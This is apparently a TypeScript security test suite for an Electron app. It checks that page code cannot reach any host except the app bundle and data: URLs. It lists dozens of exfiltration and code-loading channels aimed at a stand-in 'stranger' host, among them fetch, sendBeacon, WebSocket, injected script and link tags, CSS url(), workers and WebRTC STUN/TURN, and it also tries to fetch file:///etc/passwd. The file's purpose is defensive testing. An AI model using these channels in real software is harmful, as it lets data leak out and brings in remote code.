/**
 * Threat: a page sends what it has read to a stranger, loads the stranger's code, or reads the disk by file:.
 * Invariant: a request goes to app://bundle and data: only, whatever makes it, in every session; and no host is found or called beside
 * requests: by hints to the browser or by calls between browsers (WebRTC).
 */
import { readFile } from 'node:fs/promises';
import { join } from 'node:path';
import { type Attempt, exploit } from '../helpers/security/exploit';

const by = (name: string, script: (address: string) => unknown, kind?: 'script' | 'style'): Attempt => ({
  name,
  act: async (scene, mark) => void (await scene.run(script, scene.stranger.at(mark, kind))),
});

const element = (tag: string, attribute: string, more: Readonly<Record<string, string>> = {}): Attempt => ({
  name: `<${[tag, ...Object.values(more)].join(' ')}>`,
  act: async (scene, mark) => {
    const kind = tag === 'script' ? 'script' : tag === 'link' ? 'style' : 'page';
    const attributes = { ...more, [attribute]: scene.stranger.at(mark, kind) };
    await scene.run(
      (given: { tag: string; attributes: Record<string, string> }) => {
        const made = document.createElement(given.tag);
        for (const [key, value] of Object.entries(given.attributes)) made.setAttribute(key, value);
        document.body.append(made);
      },
      { tag, attributes },
    );
  },
});

const styled = (name: string, text: string): Attempt => ({
  name,
  act: async (scene, mark) =>
    void (await scene.run(
      (rules: string) => {
        const style = document.createElement('style');
        style.textContent = rules;
        document.head.append(style);
      },
      text.replaceAll('ADDRESS', scene.stranger.at(mark)),
    )),
});

const reached: Attempt['happened'] = (scene, mark) => scene.stranger.has(mark);

exploit({
  protection: 'requests',
  happened: reached,
  attempts: [
    by('fetch', (address) => void fetch(address).catch(() => undefined)),
    by(
      'fetch without cors',
      (address) => void fetch(address, { mode: 'no-cors', method: 'POST', body: 'x' }).catch(() => 0),
    ),
    by('fetch that outlives the page', (address) => void fetch(address, { keepalive: true }).catch(() => undefined)),
    by('XMLHttpRequest', (address) => {
      const request = new XMLHttpRequest();
      request.open('GET', address);
      request.send();
    }),
    by('sendBeacon', (address) => navigator.sendBeacon(address, 'x')),
    by('EventSource', (address) => void new EventSource(address)),
    by('WebSocket', (address) => void new WebSocket(address.replace('http', 'ws'))),
    by('Image', (address) => (new Image().src = address)),
    by('Audio', (address) => void new Audio(address).play().catch(() => undefined)),
    by('FontFace', (address) => void new FontFace('x', `url(${address})`).load().catch(() => undefined)),
    by('ping of a link', (address) => {
      const link = Object.assign(document.createElement('a'), { href: '#/first-run', ping: address });
      document.body.append(link);
      link.click();
    }),
    by(
      'importScripts of a worker',
      (address) => {
        const source = URL.createObjectURL(new Blob([`importScripts('${address}')`]));
        return new Worker(source) instanceof Worker;
      },
      'script',
    ),
    by(
      'fetch of a worker',
      (address) => new Worker(URL.createObjectURL(new Blob([`fetch('${address}')`]))) instanceof Worker,
    ),
    by(
      'fetch of a shared worker',
      (address) => new SharedWorker(URL.createObjectURL(new Blob([`fetch('${address}')`]))) instanceof SharedWorker,
    ),
    {
      name: 'import()',
      act: async (scene, mark) =>
        void (await scene.run(`(address) => void import(address).catch(() => 0)`, scene.stranger.at(mark, 'script'))),
    },
    element('script', 'src'),
    element('script', 'src', { type: 'module' }),
    element('link', 'href', { rel: 'stylesheet' }),
    element('link', 'href', { rel: 'preload', as: 'image' }),
    element('link', 'href', { rel: 'modulepreload' }),
    element('link', 'href', { rel: 'prefetch' }),
    element('img', 'src'),
    element('img', 'srcset'),
    element('input', 'src', { type: 'image' }),
    element('video', 'poster'),
    element('video', 'src', { preload: 'auto' }),
    element('iframe', 'src'),
    element('object', 'data'),
    element('embed', 'src'),
    styled('@import', '@import "ADDRESS";'),
    styled('a background', 'body { background-image: url("ADDRESS"); }'),
    styled('a cursor', 'body { cursor: url("ADDRESS"), auto; } body::before { content: url("ADDRESS"); }'),
    {
      name: "main's own session",
      act: async (scene, mark) =>
        void (await scene.app.evaluate(({ session }, address) => {
          void session.defaultSession.fetch(address).catch(() => undefined);
        }, scene.stranger.at(mark))),
    },
    {
      name: 'another session',
      act: async (scene, mark) =>
        void (await scene.app.evaluate(({ session }, address) => {
          void session
            .fromPartition(`persist:${Math.random()}`)
            .fetch(address)
            .catch(() => undefined);
        }, scene.stranger.at(mark))),
    },
    ...['file:///etc/passwd', 'https://127.0.0.1:1/', 'blob:null/x'].map((address): Attempt => ({
      name: `fetch ${address}`,
      act: async (scene) => (await scene.run((target: string) => fetch(target).then(() => true), address)) ?? false,
      failsAnyway: true,
    })),
    {
      name: 'a service worker',
      act: async (scene) =>
        (await scene.run(() => navigator.serviceWorker.register('/index.js').then(() => true), undefined, 1_500)) ??
        false,
      failsAnyway: true,
    },
  ],
});

/** Whether Chromium went to ask for a name, by its own log of the network. */
const hint = (rel: string): Attempt => ({
  name: `<link ${rel}> of a name`,
  act: async (scene, mark) => {
    const file = join(scene.program.userData, 'net.json');
    await scene.app.evaluate(async ({ session }, target) => {
      await session.defaultSession.netLog.startLogging(target, { captureMode: 'everything' });
    }, file);
    const href = `http://${mark}.example.test/`;
    await scene.run((given: object) => document.head.append(Object.assign(document.createElement('link'), given)), {
      rel,
      href,
    });
    await new Promise((done) => setTimeout(done, 200));
    await scene.app.evaluate(({ session }) => session.defaultSession.netLog.stopLogging());
    return (await readFile(file, 'utf8')).includes(`${mark}.example.test`);
  },
});

/** Whether a packet or a connection came while it was tried. */
const knock = (name: string, script: ((host: string) => unknown) | string): Attempt => ({
  name,
  act: async (scene) => {
    const before = scene.stranger.knocks();
    await scene.run(script, scene.stranger.host);
    return scene.stranger.knocks() > before;
  },
});

const call = (server: string): Attempt =>
  knock(
    `a call by way of ${server}`,
    `async (host) => {
      const urls = '${server}'.replace('HOST', host);
      const connection = new RTCPeerConnection({ iceServers: [{ urls, username: 'a', credential: 'b' }] });
      connection.createDataChannel('x');
      await connection.setLocalDescription(await connection.createOffer());
      await new Promise((done) => setTimeout(done, 300));
      connection.close();
    }`,
  );

exploit({
  protection: 'hosts',
  attempts: [
    hint('dns-prefetch'),
    call('stun:HOST'),
    call('turn:HOST'),
    call('turn:HOST?transport=tcp'),
    knock('fetch', (host) => fetch(`http://${host}/`, { mode: 'no-cors' })),
    knock('WebSocket', (host) => {
      const socket = new WebSocket(`ws://${host}/`);
      return new Promise((done) => (socket.onerror = socket.onclose = done));
    }),
    knock('WebTransport', (host) => {
      const { WebTransport } = window as unknown as { WebTransport: new (at: string) => { ready: Promise<void> } };
      void new WebTransport(`https://${host}/`).ready.catch(() => undefined);
      return new Promise((done) => setTimeout(done, 200));
    }),
    knock('<link preconnect>', (host) => {
      document.head.append(
        Object.assign(document.createElement('link'), { rel: 'preconnect', href: `http://${host}/` }),
      );
      return new Promise((done) => setTimeout(done, 200));
    }),
  ],
});
